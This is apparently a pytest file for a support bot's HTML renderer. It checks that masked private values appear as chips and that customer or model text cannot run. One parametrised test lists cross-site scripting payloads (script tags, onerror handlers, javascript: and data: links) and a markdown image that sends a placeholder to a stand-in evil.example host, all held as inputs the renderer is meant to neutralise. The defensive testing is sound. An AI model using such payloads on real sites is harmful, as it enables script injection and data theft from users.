"""Masked text as HTML: chips for private values, and nothing that a customer or model writes runs."""

from collections.abc import Callable

import pytest

from bot.desk import rendering
from bot.privacy.placeholders import KINDS as ALL_KINDS
from bot.web import reveal_words

KINDS = {"hidden": "Hidden", "EMAIL": "E-mail", "PERSON": "Name", "PRIVATE": "Private"}


def test_rich_shows_markdown_and_chips() -> None:
    html = rendering.rich("**Sent** to <EMAIL_1>, `<PERSON_2>`", KINDS)
    assert "<strong>Sent</strong>" in html
    assert "E-mail 1</span>" in html
    assert "Name 2</span>" in html
    assert "EMAIL_1" not in html


def test_plain_shows_chips_and_leaves_the_rest_as_typed() -> None:
    html = rendering.plain("**no markdown** <EMAIL_12> & <b>\n<OTHER_1>", KINDS)
    assert html.startswith("**no markdown** <button type=")
    assert "E-mail 12</span>" in html
    assert "Private 1</span>" in html
    assert 'data-kind="EMAIL" data-number="12"' in html
    assert "&amp; &lt;b&gt;\n" in html


def test_line_holds_nothing_to_press_since_it_stands_in_a_link() -> None:
    html = rendering.line("Write to <EMAIL_1>", KINDS)
    assert html.startswith("Write to <span class=")
    assert "<button" not in html


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        '<img src=x onerror="alert(1)">',
        "![x](https://evil.example/?q=<EMAIL_1>)",
        "[x](javascript:alert(1))",
        "[x](data:text/html,<script>alert(1)</script>)",
        '[x](https://a.example "<EMAIL_1>")',
        "<a href='javascript:alert(1)'>x</a>",
        "\ue0000\ue001 \ue0007\ue001",
    ],
)
@pytest.mark.parametrize("render", [rendering.rich, rendering.plain, rendering.line])
def test_nothing_hostile_survives(render: Callable[[str, dict[str, str]], str], text: str) -> None:
    html = render(text, KINDS)
    for evil in ("<script", "<img", 'href="javascript', 'href="data', "\ue000", 'title="<'):
        assert evil not in html


def test_placeholder_in_an_address_stays_an_address() -> None:
    html = rendering.rich("[track](https://shop.example/?to=<EMAIL_1>)", KINDS)
    assert 'href="https://shop.example/?to=EMAIL_1"' in html
    assert "chip" not in html


def test_every_kind_has_a_name_in_both_languages() -> None:
    for kind in ALL_KINDS:
        assert all(reveal_words.WORDS[f"kind_{kind}"]), kind
